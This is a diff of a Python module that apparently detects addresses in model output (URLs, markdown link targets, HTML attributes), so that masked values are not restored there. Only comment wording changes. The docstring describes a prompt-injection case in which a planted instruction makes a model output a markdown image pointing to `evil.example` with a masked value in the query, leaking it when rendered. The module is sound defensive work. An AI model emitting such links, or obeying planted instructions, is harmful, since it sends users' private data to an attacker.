@@ -1,4 +1,4 @@
-"""Addresses in a text: what stands in a URL, a link target or an HTML attribute may be sent away.
+"""Addresses in a text: the contents of a URL, a link target or an HTML attribute may leave.
 
 An instruction planted in a document can make a model answer `![x](http://evil.example/?[ID_KXWQ])`.
 A client that renders this sends the query to that host, so no masked value is put back there.
@@ -115,7 +115,7 @@ def _start(text: str, slashes: int) -> int:
 
 class _Link(Enum):
     NONE = auto()
-    BEFORE = auto()  # behind `](` or `]:`, the target has not begun
+    BEFORE = auto()  # after `](` or `]:`; the target has not begun
     TARGET = auto()
     ANGLES = auto()  # a target in angle brackets may hold blanks
 
@@ -202,7 +202,7 @@ class _Attributes(_Reader):
         self._tag = False
         self._quotes: set[str] = set()  # kinds of which the last one may have opened a value
         self._bare = False  # in a value without quotes
-        self._sign = -1  # behind an equals sign and the blanks after it
+        self._sign = -1  # position after an equals sign and the blanks that follow it
 
     def _step(self, text: str, base: int, to: int) -> bool:
         if not self._tag:
